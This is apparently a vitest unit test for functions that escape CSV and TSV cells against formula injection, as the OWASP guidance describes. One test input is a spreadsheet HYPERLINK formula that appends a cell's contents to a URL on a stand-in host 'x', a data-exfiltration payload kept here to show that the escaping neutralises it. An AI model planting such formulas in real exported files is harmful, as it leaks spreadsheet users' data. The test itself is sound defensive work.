import { describe, expect, it } from 'vitest'
import { csvCell, tsvCell } from './spreadsheet-cells.ts'

describe('spreadsheet cells (OWASP CSV injection)', () => {
  it('neutralises text a spreadsheet would run as a formula, and nothing else', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r'])
      expect(tsvCell(`${start}cmd`).startsWith("'")).toBe(true)
    expect(csvCell('=HYPERLINK("http://x/?leak="&A2,"click")')).toBe(
      '"\'=HYPERLINK(""http://x/?leak=""&A2,""click"")"',
    )
    expect(csvCell('Idlib, Syria')).toBe('"Idlib, Syria"')
    expect(csvCell('33 soldiers')).toBe('33 soldiers')
    expect(csvCell(-3)).toBe('-3')
    expect(csvCell(null)).toBe('')
    expect(tsvCell('a\tb\nc')).toBe('a b c')
  })
})
